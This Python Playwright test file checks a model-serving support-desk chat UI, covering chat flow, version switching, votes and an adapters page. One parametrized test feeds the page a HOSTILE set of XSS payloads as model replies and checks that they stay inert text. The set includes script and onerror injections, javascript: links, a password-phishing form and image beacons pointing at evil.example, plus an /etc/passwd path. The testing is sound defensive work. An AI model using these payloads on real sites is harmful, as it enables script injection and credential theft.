"""A person's path through the page, in a real headless Chromium, against the stub engine."""

from __future__ import annotations

import re
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from serve.pages.parts import Parts
from tests.e2e.pages import Pages, serving
from tests.e2e.visit import Visit
from tests.serve.page_parts import VOTER, made, passed
from tests.serve.published import adapter
from tests.serve.stub_engine import Stub, running

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def stub() -> Iterator[Stub]:
    with running(["base", "support@v1", "support@v2", "support@v3"], max_model_len=120) as stub:
        yield stub


@pytest.fixture
def parts(stub: Stub, tmp_path: Path) -> Parts:
    root = tmp_path / "adapters"
    adapters = [adapter(root, version=1), adapter(root, version=2, algorithm="dpo", parent="support@v1")]
    return made(tmp_path, stub, adapters, max_model_len=120)


@pytest.fixture
def pages(parts: Parts) -> Iterator[Pages]:
    with serving(parts) as pages:
        yield pages


@pytest.fixture
def url(pages: Pages) -> str:
    return pages.url


@pytest.fixture
def visit(browser: Browser, url: str, stub: Stub) -> Iterator[Visit]:
    stub.delay_s, stub.reply = 0.0, None
    stub.requests.clear()
    visit = Visit(browser, url)
    yield visit
    visit.context.close()


def published(pages: Pages, root: Path, version: int) -> None:
    """A new version is found and checked, as the watcher would."""
    new = adapter(root, version=version)
    pages.do(lambda: passed(pages.parts.fleet, new))


def stored(parts: Parts, view: str) -> list[dict[str, Any]]:
    with sqlite3.connect(parts.votes.path) as db:
        db.row_factory = sqlite3.Row
        return [dict(row) for row in db.execute(f"SELECT * FROM {view}")]


def asked(stub: Stub) -> list[str]:
    """The texts of the last request."""
    return [message["content"] for message in stub.requests[-1]["messages"]]


def test_ask_switch_ask_and_see_another_card_and_answer(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    page = visit.page
    expect(page).to_have_title("Support desk")
    card = page.locator("#card")
    expect(card).to_contain_text("support@v2")
    expect(card).to_contain_text("DPO")
    assert "I am support@v2. You wrote: Hello" in visit.ask("Hello")

    visit.choose("Base model")
    expect(card).to_contain_text("SmolLM2.")
    assert "I am base. You wrote: And you?" in visit.ask("And you?")

    visit.choose("support@v1")
    expect(card).to_contain_text("SFT")
    assert "I am support@v1" in visit.ask("And you too?")

    # Who wrote what stays to be seen, and was never sent to a model.
    lines = [visit.messages.nth(i).inner_text() for i in (1, 3, 5)]
    assert ["support@v2 · DPO" in lines[0], "Base model" in lines[1], "support@v1 · SFT" in lines[2]] == [True] * 3
    sent = ["Hello", "I am support@v2. You wrote: Hello", "And you?", "I am base. You wrote: And you?", "And you too?"]
    assert asked(stub) == sent
    assert visit.complaints == [] and visit.outside == []


def test_retry_and_edit(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    visit.ask("First")
    visit.ask("Second")
    visit.choose("Base model")
    visit.button("Retry").last.click()
    expect(visit.messages.nth(3)).to_contain_text("I am base. You wrote: Second")
    expect(visit.messages.nth(3)).to_contain_text("to first token")
    visit.idle()
    assert asked(stub) == ["First", "I am support@v2. You wrote: First", "Second"]

    visit.button("Edit").first.click()
    visit.page.locator("#chat textarea").fill("First <b>again</b>")
    visit.button("Submit").click()
    expect(visit.messages.nth(1)).to_contain_text("I am base. You wrote: First <b>again</b>")
    expect(visit.messages).to_have_count(2)
    assert asked(stub) == ["First <b>again</b>"]
    assert visit.complaints == []


def test_stop_keeps_what_was_written(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    stub.delay_s, stub.reply, aborted = 0.3, " ".join("abcdefghijklmnopqrstuvwxyz" * 3), stub.aborted
    visit.send("Go on and on")
    expect(visit.messages.nth(1)).to_contain_text("a b c")
    visit.box.fill("My next thought")
    visit.page.locator("#stop").click()
    expect(visit.messages.nth(1)).to_contain_text("stopped")
    visit.idle()
    assert visit.box.input_value() == "My next thought"
    stub.delay_s, stub.reply = 0.0, None
    visit.ask("Next")
    assert asked(stub)[1].startswith("a b c") and "stopped" not in asked(stub)[1]
    assert stub.aborted == aborted + 1


def test_retry_while_a_reply_is_written_leaves_it_alone(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    visit.ask("First")
    stub.delay_s, stub.reply = 0.3, " ".join("abcdefghijklmnopqrstuvwxyz" * 3)
    count = len(stub.requests)
    visit.send("Go on and on")
    expect(visit.messages.nth(3)).to_contain_text("a b c")
    visit.button("Retry").last.click(force=True)
    visit.page.wait_for_timeout(700)
    assert len(stub.requests) == count + 1
    visit.page.locator("#stop").click()
    expect(visit.messages.nth(3)).to_contain_text("stopped")
    visit.idle()
    expect(visit.messages).to_have_count(4)
    stub.delay_s, stub.reply = 0.0, None
    visit.ask("Next")


def test_stop_before_the_first_word_gives_the_question_back(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    stub.delay_s = 20
    visit.send("Slow one")
    visit.page.locator("#stop").click()
    visit.idle()
    expect(visit.box).to_have_value("Slow one")
    expect(visit.messages).to_have_count(0)


def test_clear_also_in_the_middle_of_a_reply(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    visit.ask("First")
    stub.delay_s, stub.reply = 0.2, " ".join("abcdefghijklmnopqrstuvwxyz" * 3)
    visit.send("Go on and on")
    expect(visit.messages.nth(3)).to_contain_text("a b")
    visit.page.locator("#clear").click()
    expect(visit.messages).to_have_count(0)
    stub.delay_s, stub.reply = 0.0, None
    visit.idle()
    visit.ask("Fresh")
    assert asked(stub) == ["Fresh"]


def test_leaving_the_page_aborts_the_request(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    stub.delay_s, stub.reply, aborted = 0.1, " ".join("abcdefghijklmnopqrstuvwxyz" * 20), stub.aborted
    visit.send("Go on and on")
    expect(visit.messages.nth(1)).to_contain_text("a b")
    visit.page.close()
    left = time.monotonic()
    while stub.aborted == aborted and time.monotonic() - left < 10:
        time.sleep(0.02)
    assert stub.aborted == aborted + 1, "the engine still works for nobody"
    assert time.monotonic() - left < 2


def test_an_empty_message_does_nothing(visit: Visit, stub: Stub) -> None:
    visit.send("  \n ")
    visit.page.locator("#send").click()
    visit.page.wait_for_timeout(1500)
    assert visit.messages.count() == 0 and stub.requests == []


def test_a_message_that_is_too_long_is_explained_and_kept(visit: Visit) -> None:
    from playwright.sync_api import expect

    visit.ask("First")
    words = "word " * 150
    visit.send(words)
    expect(visit.notice).to_contain_text("at most 120")
    expect(visit.box).to_have_value(words)
    expect(visit.messages).to_have_count(2)
    expect(visit.page.locator("#send")).to_be_in_viewport()
    visit.idle()
    visit.ask("Shorter")
    expect(visit.notice).to_have_count(0)
    assert visit.complaints == []


def test_the_settings_are_sent(visit: Visit, stub: Stub) -> None:
    from playwright.sync_api import expect

    page = visit.page
    visit.open_settings()
    page.locator("#system textarea").fill("Answer in one word.")
    page.locator("#temperature input[type=number]").fill("0.25")
    page.locator("#temperature input[type=number]").press("Tab")
    page.locator("#max-tokens input[type=number]").fill("3")
    page.locator("#max-tokens input[type=number]").press("Tab")
    page.locator("#seed input, #seed textarea").fill("11")
    visit.ask("Hello")
    sent = stub.requests[-1]
    assert asked(stub) == ["Answer in one word.", "Hello"]
    assert (sent["temperature"], sent["max_tokens"], sent["seed"]) == (0.25, 3, 11)

    page.locator("#seed input, #seed textarea").fill("x")
    visit.send("Again")
    expect(visit.notice).to_contain_text("not a whole number")
    expect(visit.box).to_have_value("Again")


def test_html_of_a_model_is_shown_and_never_run(visit: Visit, stub: Stub) -> None:
    stub.reply = (
        "<img src=x onerror=\"document.title='pwned'\"> <think>hm</think> <b>bold</b> & `<i>`\n\n```\n<u> left open"
    )
    text = visit.ask("Attack <i>me</i>")
    for part in ("<img src=x", "<think>hm</think>", "<b>bold</b>", "<i>", "<u> left open", "to first token"):
        assert part in text
    assert "<i>me</i>" in visit.messages.nth(0).inner_text()
    assert visit.page.title() == "Support desk"
    assert visit.outside == []


FLAG = "window.pwned=true"
HOSTILE = {
    "script": f"<script>{FLAG}</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "onerror": f"<img src=x onerror={FLAG}> <svg/onload={FLAG}> <iframe srcdoc='<script>parent.{FLAG}</script>'>",
    "in code": f"```html\n<script>{FLAG}</script>\n```\n`<img src=x onerror={FLAG}>`",
    "fence that ends a script": f"```</code></pre><script>{FLAG}</script>\n```\n",
    "links": f"[a](javascript:{FLAG}) [b](data:text/html,<script>{FLAG}</script>) <javascript:{FLAG}> [c](vbscript:x)"
    f"\n\n[d]: javascript:{FLAG}\n[d] [e](JaVaScRiPt&colon;{FLAG}) [f](\x01javascript:{FLAG})",
    "pictures": "![x](https://evil.example/x.png) ![y](//evil.example/y.png) ![z](/gradio_api/file=/etc/passwd) "
    "[![in a link](https://evil.example/q.png)](https://evil.example)",
    "style": "<style>body{display:none}</style> <link rel=stylesheet href=https://evil.example/x.css> "
    "<div style='position:fixed;inset:0;background:url(https://evil.example/bg.png)'>over all</div>",
    "form": "<form action=https://evil.example><input name=password><button>Log in</button></form> "
    "<meta http-equiv=refresh content='0;url=https://evil.example'> <base href=https://evil.example/>",
    "broken markdown": "# [a](b ![ **c _d `e\n| a | b\n|--\n> > > 1. - * [ ] ~~x $$\\frac{ \\[ \\( $ "
    "<!-- <![CDATA[ &#x3c; &lt;",
    "formula": f"$\\href{{javascript:{FLAG}}}{{x}}$ "
    f"$$\\includegraphics{{https://evil.example/x.png}}$$ \\(\\url{{x}}\\)",
    "mermaid": f'```mermaid\ngraph TD\nA["<img src=https://evil.example/m.png onerror={FLAG}>"]\n'
    f'click A "javascript:{FLAG}"\n```',
    "open fence": "Here:\n```python\nprint(1)",
    "control characters": "a\x00b\x07c\x08d\x0be\x0cf\x1bg\x7fh\x9bi\ufeffj\ufffek\u2028l\u2029m",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J",
    "right to left": "\u202egpj.exe\u202c \u2066\u2067\u200f\u061c safe",
    "combining": "Z" + "\u0301" * 500,
}


# Where a link leads, as the browser resolves it; one that it cannot resolve leads nowhere.
TARGET = """e => {
  const given = e.getAttribute("href") ?? e.getAttribute("xlink:href");
  try { return given === null ? "none" : new URL(given, location).href } catch { return "none" }
}"""


@pytest.mark.parametrize("kind", HOSTILE)
def test_whatever_a_model_writes_stays_text(
    hostile_visit: Visit, hostile_stub: Stub, kind: str, parts_of_hostile: Parts
) -> None:
    """Nothing runs, nothing is loaded from anywhere, and the page goes on; the vote holds what was streamed."""
    from playwright.sync_api import expect

    visit, page = hostile_visit, hostile_visit.page
    visit.outside.clear()
    visit.complaints.clear()
    hostile_stub.reply = HOSTILE[kind]
    count = visit.messages.count()
    visit.ask(f"Try {kind}")
    page.wait_for_timeout(300)
    reply = visit.messages.nth(count + 1)
    for link in reply.locator(".prose a").all():
        # What the browser would do with it: a scheme that it does not know is a path.
        target = link.evaluate(TARGET)
        assert target.startswith(("http://", "https://", "mailto:", "none")), target
    forbidden = (
        "script, iframe, object, embed, form, link, meta, base, img:not(svg img), :not(svg) > style, "
        "input:not([type=checkbox])"
    )
    assert [found.evaluate("e => e.outerHTML") for found in reply.locator(".prose").locator(forbidden).all()] == []
    assert page.evaluate("window.pwned") is None
    assert visit.outside == [], "a picture is a beacon: it tells another host who reads, and what was said"
    expect(page.locator("#send")).to_be_in_viewport()
    assert page.title() == "Support desk"
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    # The next reply is not swallowed by this one.
    hostile_stub.reply = "All is well."
    assert "All is well." in visit.ask("And now?")
    assert [m["content"] for m in hostile_stub.requests[-1]["messages"]][-2] == HOSTILE[kind]
    # What Mermaid draws may ask for a picture; the browser is told to fetch none (serve.web.POLICY), and says so.
    assert [line for line in visit.complaints if kind != "mermaid" or "Content Security Policy" not in line] == []
    page.locator("#clear").click()
    expect(visit.messages).to_have_count(0)


@pytest.fixture(scope="module")
def hostile_stub() -> Iterator[Stub]:
    with running(["base"], max_model_len=10_000) as stub:
        yield stub


@pytest.fixture(scope="module")
def parts_of_hostile(hostile_stub: Stub, tmp_path_factory: pytest.TempPathFactory) -> Parts:
    return made(tmp_path_factory.mktemp("hostile"), hostile_stub, max_model_len=10_000)


@pytest.fixture(scope="module")
def hostile_visit(browser: Browser, parts_of_hostile: Parts) -> Iterator[Visit]:
    with serving(parts_of_hostile) as pages:
        visit = Visit(browser, pages.url)
        yield visit
        visit.context.close()


@pytest.mark.parametrize(
    "text",
    ["x" * 200_000, "<" * 50_000, "`" * 50_000, "[" * 20_000, "*a*" * 5_000, ">" * 5_000, "\n" * 50_000 + "end"],
    ids=["one line", "angles", "ticks", "brackets", "stars", "quotes", "empty lines"],
)
def test_a_huge_reply_does_not_stop_the_page(hostile_visit: Visit, hostile_stub: Stub, text: str) -> None:
    from playwright.sync_api import expect

    visit, page = hostile_visit, hostile_visit.page
    hostile_stub.reply = text
    visit.ask("Write a lot")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    expect(page.locator("#send")).to_be_in_viewport()
    began = time.monotonic()
    visit.box.fill("typed")
    assert time.monotonic() - began < 5
    visit.box.fill("")
    page.locator("#clear").click()
    expect(visit.messages).to_have_count(0)


def test_sessions_do_not_see_each_other(visit: Visit, browser: Browser, url: str, stub: Stub) -> None:
    visit.ask("A secret")
    other = Visit(browser, url)
    other.ask("Hello")
    assert asked(stub) == ["Hello"]
    assert other.messages.count() == 2
    other.context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_fits_a_phone_in_light_and_dark(browser: Browser, url: str, stub: Stub, scheme: str) -> None:
    from playwright.sync_api import expect

    stub.delay_s, stub.reply = 0.0, "A long line of reply " * 10 + "`" + "x" * 200 + "`"
    phone = Visit(
        browser,
        url,
        viewport={"width": 390, "height": 844},
        color_scheme=scheme,
        is_mobile=True,
        has_touch=True,
    )
    phone.ask("Hello")
    page = phone.page
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    for place in ("#model", "#box", "#send"):
        expect(page.locator(place).first).to_be_in_viewport(ratio=0.9)
    light = page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).slice(0, 3).map(Number)")
    assert (sum(light) > 3 * 128) == (scheme == "light")
    assert phone.complaints == [] and phone.outside == []
    phone.context.close()
    stub.reply = None


def test_an_engine_that_is_gone_is_said_and_the_text_kept(browser: Browser, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    with running(["base"]) as mortal, serving(made(tmp_path, mortal, max_model_len=120), "Mortal") as pages:
        visit = Visit(browser, pages.url)
        assert "I am base" in visit.ask("Hello")
        mortal.kill()
        visit.send("Anybody?")
        expect(visit.notice).to_contain_text("engine")
        expect(visit.box).to_have_value("Anybody?")
        expect(visit.messages).to_have_count(2)
        visit.context.close()


def test_an_engine_that_dies_in_the_middle_of_a_reply_loses_nothing_typed(browser: Browser, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    with running(["base"], delay_s=0.1, reply="word " * 200) as mortal:
        parts = made(tmp_path, mortal, max_model_len=120)
        with serving(parts, "Mortal") as pages:
            visit = Visit(browser, pages.url)
            visit.send("My long question, with <tags> & all")
            expect(visit.messages.nth(1)).to_contain_text("word word word")
            mortal.kill()
            expect(visit.notice).to_contain_text("The engine that runs the models stopped")
            expect(visit.box).to_have_value("My long question, with <tags> & all")
            visit.idle()
            expect(visit.messages).to_have_count(0)

            # The supervisor sees it as well: the line under the title says so without a reload, and when it is back.
            pages.do(lambda: parts.fleet.engine_lost("The engine is being started again."))
            expect(visit.page.locator("#state")).to_contain_text("being started again", timeout=5000)
            pages.do(lambda: pages.loop.create_task(parts.fleet.engine_back()))
            expect(visit.page.locator("#state")).to_contain_text("on one base model", timeout=5000)
            expect(visit.box).to_have_value("My long question, with <tags> & all")
            visit.context.close()


# --- published while the page is open ---


def options(visit: Visit) -> list[str]:
    visit.page.locator("#model input").click()
    found = visit.page.get_by_role("option").all_inner_texts()
    visit.page.keyboard.press("Escape")
    return [text.replace("✓", "").strip() for text in found]


def test_a_new_version_appears_in_an_open_page_and_the_chat_keeps_its_own(
    visit: Visit, pages: Pages, stub: Stub, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    page, newer = visit.page, visit.page.locator("#newer")
    assert "I am support@v2" in visit.ask("Hello")
    page.evaluate("window.same = true")
    visit.box.fill("half a thou")
    published(pages, tmp_path / "adapters", 3)
    expect(newer).to_contain_text("support@v3 is newer. This chat goes on with support@v2", timeout=5000)
    assert options(visit) == ["support@v3 · SFT", "support@v2 · DPO (older)", "support@v1 · SFT (older)", "Base model"]
    expect(visit.box).to_have_value("half a thou")
    expect(page.locator("#model input")).to_have_value(re.compile("support@v2"))
    assert "I am support@v2" in visit.ask("Still you?")

    visit.choose("support@v3")
    expect(newer).to_have_count(0)
    expect(page.locator("#card")).to_contain_text("support@v3")
    assert "I am support@v3" in visit.ask("And now?")
    assert page.evaluate("window.same") is True, "no reload"
    assert visit.complaints == [] and visit.outside == []


def test_a_page_where_nothing_was_said_goes_on_to_the_new_version(visit: Visit, pages: Pages, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    expect(visit.page.locator("#model input")).to_have_value(re.compile("support@v2"))
    published(pages, tmp_path / "adapters", 3)
    expect(visit.page.locator("#model input")).to_have_value(re.compile("support@v3"), timeout=5000)
    expect(visit.page.locator("#card")).to_contain_text("support@v3")
    expect(visit.page.locator("#newer")).to_have_count(0)
    assert "I am support@v3" in visit.ask("Hello")


def test_a_picked_model_stays_while_others_come(visit: Visit, pages: Pages, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    visit.choose("Base model")
    expect(visit.page.locator("#card")).to_contain_text("SmolLM2.")
    published(pages, tmp_path / "adapters", 3)
    visit.page.wait_for_timeout(3000)
    assert options(visit)[0] == "support@v3 · SFT"
    expect(visit.page.locator("#model input")).to_have_value("Base model")
    assert "I am base" in visit.ask("Hello")


def test_a_reply_in_progress_ends_with_the_version_it_began_with(
    visit: Visit, pages: Pages, stub: Stub, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    stub.delay_s, stub.reply = 0.1, " ".join(["word"] * 30)
    visit.send("Go on")
    expect(visit.messages.nth(1)).to_contain_text("word word")
    published(pages, tmp_path / "adapters", 3)
    expect(visit.messages.nth(1)).to_contain_text("to first token")
    text = visit.messages.nth(1).inner_text()
    assert text.count("word") == 30 and "support@v2 · DPO" in text
    assert len(stub.requests) == 1 and stub.requests[0]["model"] == "support@v2"


# --- votes ---


def test_a_thumb_and_a_better_answer_reach_the_store(visit: Visit, parts: Parts, stub: Stub) -> None:
    from playwright.sync_api import expect

    note = visit.page.locator("#notice [role=status]")
    stub.reply = "  A *raw* <b>reply</b>\n\n"
    visit.ask("First")
    visit.button("Like").last.click()
    expect(note).to_contain_text("thumb up")
    [vote] = stored(parts, "unpaired_preferences")
    assert (vote["completion"], vote["label"], vote["ref"], vote["voter"]) == (stub.reply, 1, "support@v2", VOTER)

    stub.reply = "Second <i>reply</i> & more."
    visit.ask("Second")
    visit.button("Edit").last.click()
    expect(visit.page.locator("#chat textarea:visible")).to_have_count(1)  # the line below it is not theirs to edit
    field = visit.page.locator("#chat textarea").first
    assert field.input_value().replace("&lt;", "<").replace("&amp;", "&") == stub.reply
    field.fill("A better <i>reply</i>.")
    visit.button("Submit").first.click()
    expect(note).to_contain_text("preferred over")
    expect(visit.messages.nth(3)).to_contain_text("A better <i>reply</i>.")
    expect(visit.messages.nth(3)).to_contain_text("edited by you")
    expect(visit.messages).to_have_count(4)
    [pair] = stored(parts, "preference_pairs")
    assert (pair["chosen"], pair["rejected"]) == ("A better <i>reply</i>.", stub.reply)
    visit.ask("Third")
    assert asked(stub)[3] == "A better <i>reply</i>."
    assert visit.complaints == [] and visit.outside == []


# --- the adapters page ---


def test_the_adapters_page_lives_and_its_buttons_work(visit: Visit, pages: Pages, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    page, parts = visit.page, pages.parts
    visit.ask("Hello")
    page.get_by_role("tab", name="Adapters").click()
    table = page.locator("#versions")
    expect(table).to_contain_text("★ support@v2")
    # State, requests, first token: nothing but the request has happened since the page was loaded.
    expect(table).to_contain_text(re.compile(r"★ support@v2\W*ready\W*1\W*0\.\d\d s"))
    published(pages, tmp_path / "adapters", 3)
    expect(table).to_contain_text("★ support@v3", timeout=5000)
    broken = adapter(tmp_path / "adapters", "legal")
    pages.do(lambda: parts.fleet.quarantine(parts.fleet.found("legal@v1", broken), "It was trained on another base."))
    expect(table).to_contain_text("quarantined", timeout=5000)

    table.locator(".body-cell", has_text="legal@v1").first.click()
    panel = page.locator("#version")
    expect(panel).to_contain_text("It was trained on another base.")
    expect(page.locator("#pin")).to_be_disabled()
    table.locator(".body-cell", has_text=re.compile(r"^\s*support@v1\s*$")).first.click()
    expect(panel).to_contain_text("support@v1")
    page.locator("#pin").click()
    expect(page.locator("#managed")).to_contain_text("is kept loaded")
    expect(table).to_contain_text("pinned")
    page.locator("#default").click()
    expect(table).to_contain_text("★ support@v1")
    page.locator("#retire").click()
    expect(page.locator("#retire")).to_contain_text("Bring back")
    version = parts.fleet.get("support@v1")
    assert version is not None and version.pinned and version.withdrawn
    assert visit.complaints == [] and visit.outside == []
